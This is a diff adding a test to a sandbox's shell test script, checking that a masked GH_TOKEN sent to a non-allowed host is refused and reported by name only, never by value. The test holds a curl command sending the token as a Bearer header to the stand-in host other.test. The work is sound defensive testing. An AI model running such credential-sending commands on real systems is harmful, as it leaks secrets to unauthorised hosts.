@@ -209,6 +209,26 @@ EOF
 fi
 check "the origin got no placeholder" sh -c "! grep -q pisbx_ '$T/origin.rec'"
 
+# A placeholder sent where its credential may not go: refused, and the
+# summary and --report name the credential (never its value).
+HOSTS_NAMES="allowed.test denied.test other.test"
+srv_start http plain
+PLAIN=$SRV_PORT
+CREDS_INJ='{"envVars":[{"name":"GH_TOKEN","mode":"mask","injectHosts":["allowed.test"]}]}'
+run_config --allow "allowed.test other.test" --net '{"tlsTerminate":{}}' \
+    --top '{"credentials":'"$CREDS_INJ"'}'
+sbx --report "$T/leak.json" -- /bin/sh -c \
+    "curl -sS --max-time 10 -H \"Authorization: Bearer \$GH_TOKEN\" http://other.test:$PLAIN/leak" \
+    >"$T/leak.out" 2>"$T/leak.err"
+check "a leak: the summary names the refusal and the credential" sh -c "
+    grep -q 'other.test:$PLAIN (credential-leak.*GH_TOKEN' '$T/leak.err'"
+check "a leak: --report has it, with the credential's name" "$PY" -c "
+import json, sys
+r = json.load(open('$T/leak.json'))
+sys.exit(0 if any(i.get('reason') == 'credential-leak' and
+    'GH_TOKEN' in i.get('detail', '') for i in r) else 1)"
+check "a leak: the value is in neither" reals "$T/leak.err" "$T/leak.json"
+
 # 3. A configured CA: its key is hidden from the command.
 mkdir -p "$WS/ca"
 openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes \
